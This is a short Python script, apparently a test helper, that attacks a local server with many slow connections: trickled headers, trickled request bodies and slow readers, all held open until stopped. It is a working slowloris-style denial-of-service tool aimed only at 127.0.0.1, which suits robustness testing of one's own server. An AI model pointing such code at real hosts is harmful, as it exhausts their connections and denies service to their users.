"""Slow clients in a process of their own: ``python attack.py PORT COUNT`` holds so many of each kind until ended."""

from __future__ import annotations

import asyncio
import socket
import sys
from contextlib import suppress

HEAD = b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "
BODY = b"POST /echo/1 HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
READER = b"GET /huge/1 HTTP/1.1\r\nHost: a\r\n\r\n"
PAUSE = 0.5


async def hold(port: int, words: bytes, *, reads: bool) -> None:
    """Connect again and again; send or read a byte now and then."""
    loop = asyncio.get_running_loop()
    while True:
        with suppress(OSError), socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.setblocking(False)
            await loop.sock_connect(connection, ("127.0.0.1", port))
            await loop.sock_sendall(connection, words)
            while True:
                await asyncio.sleep(PAUSE)
                if reads:
                    if not await loop.sock_recv(connection, 100):
                        break
                else:
                    await loop.sock_sendall(connection, b"x")
        await asyncio.sleep(PAUSE)


async def main(port: int, count: int) -> None:
    """Attack."""
    async with asyncio.TaskGroup() as group:
        for words, reads in ((HEAD, False), (BODY, False), (READER, True)):
            for _ in range(count):
                group.create_task(hold(port, words, reads=reads))


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), int(sys.argv[2])))
